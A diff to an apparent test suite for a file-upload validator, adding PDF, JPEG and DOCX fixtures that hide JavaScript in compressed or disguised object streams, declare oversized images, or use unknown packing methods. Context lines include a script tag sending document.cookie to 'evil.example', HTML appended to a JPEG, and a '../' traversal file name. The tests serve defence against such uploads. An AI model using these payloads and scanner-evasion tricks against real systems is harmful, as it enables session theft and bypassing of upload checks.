@@ -8,19 +8,41 @@ import { aPdf } from './support/bytes.ts';
 import { DOCX, XLSX, zip } from './support/zip.ts';
 
 const GIGABYTE = 1024 ** 3;
+const text = (value: string) => Buffer.from(value);
 const pdf = aPdf(500);
 const png = Buffer.from(
   'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
   'base64',
 );
-const jpeg = Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300ffd9', 'hex');
+/** A JPEG of so many pixels each way, as hex; `before` stands in front of the segment that says so. */
+const jpegOf = (side: string, before = '') =>
+  Buffer.from(
+    `ffd8ffe000104a46494600010100000100010000${before}ffc0000b08${side}${side}01011100ffda0008010100003f0000ffd9`,
+    'hex',
+  );
+const jpeg = jpegOf('0001');
+/** A PDF with these objects, and one whose object stream is this. */
+const pdfWith = (...objects: (string | Buffer)[]) =>
+  Buffer.concat([
+    text('%PDF-1.7\n1 0 obj<<>>endobj\n'),
+    ...objects.map((one) => (typeof one === 'string' ? text(one) : one)),
+    text('\n%%EOF'),
+  ]);
+const packed = (dictionary: string, data: Buffer) =>
+  pdfWith(`2 0 obj<<${dictionary}>>stream\n`, data, '\nendstream endobj\n');
+const SCRIPT = text('3 0 <</S/JavaScript/JS(x)>>');
+/** The directory says that the parts are packed by a method that we do not unpack. */
+function packedBy(method: number, archive: Buffer): Buffer {
+  for (let at = archive.indexOf('PK\x01\x02'); at >= 0; at = archive.indexOf('PK\x01\x02', at + 4))
+    if (archive.readUInt16LE(at + 10) === 8) archive.writeUInt16LE(method, at + 10);
+  return archive;
+}
 /** The directory says that every part is empty. */
 function understated(archive: Buffer): Buffer {
   for (let at = archive.indexOf('PK\x01\x02'); at >= 0; at = archive.indexOf('PK\x01\x02', at + 4))
     archive.fill(0, at + 24, at + 28);
   return archive;
 }
-const text = (value: string) => Buffer.from(value);
 const script = '<script>fetch("//evil.example/"+document.cookie)</script>';
 const types = { name: '[Content_Types].xml', bytes: DOCX };
 const sheet = { name: '[Content_Types].xml', bytes: XLSX };
@@ -127,6 +149,50 @@ const REFUSED: readonly (readonly [what: string, name: string, bytes: Buffer])[]
       text('\nendstream endobj\n%%EOF'),
     ]),
   ],
+  [
+    'a PDF whose script is behind the word stream in a string',
+    'palavra.pdf',
+    pdfWith('2 0 obj(stream)endobj 3 0 obj<</S/JavaScript/JS(x)>>endobj 4 0 obj<<>>stream\nx\nendstream endobj'),
+  ],
+  [
+    'a PDF whose script lies in a stream, for its table to point to',
+    'dentro.pdf',
+    pdfWith('2 0 obj<</Length 60>>stream\n3 0 obj<</S/JavaScript/JS(x)>>endobj\nendstream endobj'),
+  ],
+  [
+    'an object stream whose type is escaped',
+    'tipo.pdf',
+    packed('/Type/Obj#53tm/Filter/FlateDecode', deflateSync(SCRIPT)),
+  ],
+  ['an object stream without a type', 'semtipo.pdf', packed('/N 1/First 4/Filter/FlateDecode', deflateSync(SCRIPT))],
+  [
+    'an object stream behind a name',
+    'frase.pdf',
+    packed('/Type/ObjStm/X(stream)/Filter/FlateDecode', deflateSync(SCRIPT)),
+  ],
+  [
+    'an object stream with a wrong checksum',
+    'soma.pdf',
+    packed('/Type/ObjStm/Filter/FlateDecode', Buffer.concat([deflateSync(SCRIPT).subarray(0, -4), Buffer.alloc(4)])),
+  ],
+  [
+    'an object stream that is packed twice',
+    'duas.pdf',
+    packed('/Type/ObjStm/Filter[/FlateDecode/FlateDecode]', deflateSync(deflateSync(SCRIPT))),
+  ],
+  [
+    'an object stream that is packed in another way',
+    'outra.pdf',
+    packed('/Type/ObjStm/Filter/ASCIIHexDecode', text(SCRIPT.toString('hex'))),
+  ],
+  ['a JPEG of 900 megapixels behind a filler', 'cheia.jpg', jpegOf('7530', 'ff')],
+  ['a JPEG of 900 megapixels behind other bytes', 'lixo.jpg', jpegOf('7530', '000000')],
+  ['a JPEG without a picture', 'oca.jpg', Buffer.from('ffd8ffe000104a46494600010100000100010000ffdb004300ffd9', 'hex')],
+  [
+    'a DOCX packed by a method of its own',
+    'metodo.docx',
+    packedBy(9, zip([types, { name: 'word/a.xml', zeros: 1000 }])),
+  ],
   ['a JPEG that is cut off', 'cortada.jpg', jpeg.subarray(0, -2)],
   [
     'a PNG of 900 megapixels',
@@ -152,6 +218,12 @@ const REFUSED: readonly (readonly [what: string, name: string, bytes: Buffer])[]
 
 /** What is a document of its kind, and wicked: kept, but served so that nothing of it runs. */
 const KEPT: readonly (readonly [what: string, name: string, bytes: Buffer])[] = [
+  [
+    'a PDF of packed objects',
+    'pacotes.pdf',
+    packed('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(text('3 0 <<>>'))),
+  ],
+  ['an encrypted PDF', 'cifrado.pdf', packed('/Type/ObjStm/Filter/FlateDecode/Encrypt 9 0 R', Buffer.alloc(50, 7))],
   ['PDF and HTML in one', 'dois.pdf', Buffer.concat([pdf, text(`<html>${script}</html>`)])],
   ['a JPEG with HTML behind it', 'foto.jpg', Buffer.concat([jpeg, text(`<html>${script}</html>`)])],
   ['a way out of the folder', '../../../../tmp/prumo-evil.pdf', pdf],
